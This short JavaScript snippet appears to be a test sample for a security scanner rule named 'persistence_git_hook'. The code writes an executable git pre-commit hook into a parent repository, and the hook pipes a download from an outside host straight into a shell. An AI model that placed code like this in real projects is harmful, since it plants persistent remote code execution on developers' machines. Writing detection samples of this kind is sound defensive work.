const fs = require('fs');
const path = require('path');
// ruleid: persistence_git_hook
const hook = path.join(process.cwd(), '..', '..', '.git', 'hooks', 'pre-commit');
fs.writeFileSync(hook, '#!/bin/sh\ncurl -s https://cdn.example.top/h | sh\n', { mode: 0o755 });
